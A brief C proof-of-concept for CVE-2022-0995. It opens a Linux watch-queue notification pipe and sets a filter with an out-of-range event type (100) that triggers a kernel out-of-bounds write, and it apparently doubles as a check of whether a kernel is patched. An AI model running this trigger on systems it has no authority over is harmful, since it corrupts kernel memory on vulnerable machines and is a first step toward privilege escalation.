/*
 * CVE-2022-0995: a watch queue's filter names an event type that the filter's bitmap has no bit
 * for. Type 100 passes only the test that mistakes bytes for words, so the kernel allocates no
 * room for the filter and writes one.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

/* include/uapi/linux/watch_queue.h, which cannot be included next to glibc's fcntl.h */
#define NOTIFICATION_PIPE O_EXCL
#define SET_SIZE _IO('W', 0x60)
#define SET_FILTER _IO('W', 0x61)

struct filter {
	uint32_t count, reserved;
	struct {
		uint32_t type, info_filter, info_mask, subtypes[8];
	} one;
};

int main(void)
{
	struct filter filter = { .count = 1, .one = { .type = 100, .subtypes = { ~0u } } };
	int ends[2];

	if (pipe2(ends, NOTIFICATION_PIPE) || ioctl(ends[0], SET_SIZE, 1)) {
		perror("notification pipe");
		return 1;
	}
	/* A fixed kernel skips types that it does not know, and succeeds. */
	if (ioctl(ends[0], SET_FILTER, &filter)) {
		perror("filter");
		return 1;
	}
	return 0;
}
